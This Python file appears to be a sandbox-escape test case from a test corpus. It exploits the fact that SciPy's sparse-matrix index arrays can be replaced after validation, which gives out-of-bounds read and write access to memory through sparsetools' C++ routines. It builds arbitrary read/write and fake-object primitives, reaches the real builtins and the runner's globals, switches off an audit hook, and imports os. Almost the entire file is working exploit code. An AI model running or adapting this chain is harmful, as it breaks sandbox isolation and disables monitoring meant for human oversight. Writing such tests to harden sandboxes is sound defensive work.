# technique: a sparse matrix whose index arrays passed scipy's full check (check_format(full_check=True), coo's range check) is then given other index arrays (plain attributes: A.indices, A.indptr, C.row, C.col); sparsetools' C++ trusts whatever they hold at each call: csr_matvec reads x[indices[k]], coo_todense adds data[k] into out[row*N + col]: a read and a write primitive anywhere relative to the snippet's array, then a forged reference; a check at construction does not hold
# source: scipy.sparse._compressed (indices/indptr are plain attributes), scipy.sparse._coo (row/col), scipy/sparse/sparsetools/csr.h csr_matvec, coo.h coo_todense
import numpy as np
import scipy.sparse as sps

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

x = np.zeros(4, dtype=np.int64)
X0 = np.byte_bounds(x)[0]
R = sps.csr_matrix((np.array([1], dtype=np.int64), np.array([0]), np.array([0, 1])), shape=(1, 4))
R.check_format(full_check=True)
R.indptr = R.indptr.astype(np.int64)
W = sps.coo_matrix((np.array([0], dtype=np.int64), (np.array([0]), np.array([0]))), shape=(1, 4))
def word(d):
    R.indices = np.array([d], dtype=np.int64)
    return int((R @ x)[0]) & (2**64 - 1)
def r64(addr):
    d = addr - X0
    lo = word(d // 8)
    if d % 8 == 0:
        return lo
    sh = (d % 8) * 8
    return ((lo >> sh) | (word(d // 8 + 1) << (64 - sh))) & (2**64 - 1)
def w64(addr, v):
    out = np.zeros((1, 4), dtype=np.int64)
    delta = (v - r64(addr)) % 2**64
    if delta >= 2**63:
        delta -= 2**64
    W.data = np.array([delta], dtype=np.int64)
    W.col = np.array([(addr - np.byte_bounds(out)[0]) // 8], dtype=np.int64)
    W.toarray(out=out)
holder = [None]
def fakeobj(addr):
    w64(addr, r64(addr) + 1)          # a reference of the holder's own
    w64(r64(id(holder) + 24), addr)   # holder's ob_item[0]
    return holder[0]
def builtins_dict():
    # a Python function's func_builtins (CPython 3.11: offset 24)
    return fakeobj(r64(id(np.linalg.norm) + 24))
def runner_globals():
    # display() is the runner's own function: its func_globals (offset 16)
    return fakeobj(r64(id(display) + 16))
def os_after_disarm():
    g = runner_globals()
    aud = fakeobj(r64(id(g['_PKG_TRUST'][0]) + 24))  # the bound method's self: _Audit
    aud.armed = False
    return g[dn('builtins')][dn('import')]('os')
attempt('checked csr_matrix, indices replaced after -> real builtins', builtins_dict)
attempt('checked coo_matrix, col replaced after -> runner globals', runner_globals)
attempt('sparse indices replaced after the check -> audit hook off, os', os_after_disarm)
